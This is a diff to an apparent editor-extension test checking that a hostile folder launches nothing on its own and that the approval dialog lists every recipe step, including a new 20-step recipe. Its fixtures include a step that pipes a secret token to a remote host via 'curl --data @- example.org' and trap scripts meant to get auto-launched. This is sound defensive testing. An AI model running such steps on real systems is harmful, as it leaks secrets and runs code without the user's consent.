@@ -37,11 +37,21 @@ id = "send"
 run_commands = { host_id = "somebody@203.0.113.7", commands = "curl --data @- example.org", env = { TOKEN = "\${secret:demo/token}" } }
 `;
 
+/** More than fits into a dialog. */
+const MANY = `[recipe]
+name = "many"
+
+[target]
+type = "local"
+
+${Array.from({ length: 20 }, (_, index) => `[[step]]\nid = "s${index}"\nrun_commands = { commands = "touch many-${index}" }\n`).join('\n')}`;
+
 /** A folder that tries everything to have a program of its own started. */
 function files(recipe: string): Record<string, string> {
   const trap = './trap';
   return {
     'build.recipe.toml': recipe,
+    'many.recipe.toml': MANY,
     trap: '#!/bin/sh\ntouch "$(dirname "$0")/sprung"\n',
     doppio: '#!/bin/sh\ntouch "$(dirname "$0")/sprung"\n',
     '.vscode/settings.json': JSON.stringify({
@@ -132,6 +142,18 @@ test('a folder that means ill starts nothing and makes no command of its names',
       await editor.dialog.getByText('+ sends demo/token to somebody@203.0.113.7 (a new host)').waitFor();
       await editor.screenshot('approve-changed');
       await editor.dialog.getByRole('button', { name: 'Cancel' }).click();
+    });
+    await editor.seen('many', async () => {
+      await editor.openFile('many.recipe.toml');
+      await editor.lens('Run recipe').first().click();
+      await editor.dialog.getByText('more lines').waitFor();
+      await editor.dialog.getByRole('button', { name: 'Show All' }).click();
+      await editor.page.locator('.tab.active', { hasText: 'What many does' }).waitFor();
+      await editor.notifications.getByText('Run many?').waitFor();
+      await editor.screenshot('approve-all');
+      assert.ok(!existsSync(path.join(editor.folder, 'many-0')));
+      await editor.notifications.getByRole('button', { name: 'Approve and Run' }).click();
+      await until('the last step', () => existsSync(path.join(editor.folder, 'many-19')));
     });
   } finally {
     await editor.close();
